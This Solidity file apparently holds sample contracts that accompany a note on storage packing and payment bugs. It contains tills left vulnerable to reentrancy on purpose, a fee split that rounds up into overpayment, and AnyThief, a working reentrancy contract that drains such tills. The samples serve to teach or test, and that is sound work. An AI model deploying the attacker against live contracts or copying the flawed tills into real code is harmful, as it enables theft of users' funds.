// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {Loose, Packed} from "./Packing.sol";

// What the note describes beside its samples, small enough to measure.

contract LooseBox is Loose {
    function fill() external {
        (paid, owner, due, open) = (1, msg.sender, 2, true);
    }
}

contract PackedBox is Packed {
    function fill() external {
        (paid, due, owner, open) = (1, 2, msg.sender, true);
    }
}

interface ITill {
    function pay(address seller) external payable;
    function draw(address to) external;
}

/// Subtracts after the call: still the wrong order.
contract SubtractingTill is ITill {
    mapping(address => uint256) public owed;

    function pay(address seller) external payable {
        owed[seller] += msg.value;
    }

    function draw(address to) external {
        uint256 amount = owed[msg.sender];
        (bool ok,) = to.call{value: amount}("");
        require(ok);
        owed[msg.sender] -= amount;
    }
}

/// The same without the check of the subtraction.
contract UncheckedTill is ITill {
    mapping(address => uint256) public owed;

    function pay(address seller) external payable {
        owed[seller] += msg.value;
    }

    function draw(address to) external {
        uint256 amount = owed[msg.sender];
        (bool ok,) = to.call{value: amount}("");
        require(ok);
        unchecked {
            owed[msg.sender] -= amount;
        }
    }
}

/// Takes from any till that has these two functions.
contract AnyThief {
    ITill private immutable till;

    constructor(ITill till_) payable {
        till = till_;
        till.pay{value: msg.value}(address(this));
    }

    function steal() external {
        till.draw(address(this));
    }

    receive() external payable {
        if (address(till).balance >= 1 ether) till.draw(address(this));
    }
}

/// Both shares rounded up: they add up to more than was paid.
contract RoundingTill {
    mapping(address => uint256) public owed;
    address public immutable house;
    uint16 public immutable feeBps;

    constructor(address house_, uint16 feeBps_) {
        (house, feeBps) = (house_, feeBps_);
    }

    function pay(address seller) external payable {
        owed[house] += (msg.value * feeBps + 9_999) / 10_000;
        owed[seller] += (msg.value * (10_000 - feeBps) + 9_999) / 10_000;
    }

    function draw(address to) external {
        uint256 amount = owed[msg.sender];
        owed[msg.sender] = 0;
        (bool ok,) = to.call{value: amount}("");
        require(ok);
    }
}

contract CountingReceiver {
    uint256 public payments;

    receive() external payable {
        payments += 1;
    }
}

contract Payer {
    address payable[] private payees;

    function add(address payable payee) external {
        payees.push(payee);
    }

    function byTransfer(address payable to) external payable {
        to.transfer(msg.value);
    }

    function byCall(address payable to) external payable {
        (bool ok,) = to.call{value: msg.value}("");
        require(ok);
    }

    function payAll() external payable {
        uint256 share = msg.value / payees.length;
        for (uint256 n = 0; n < payees.length; n++) {
            (bool ok,) = payees[n].call{value: share}("");
            require(ok);
        }
    }
}
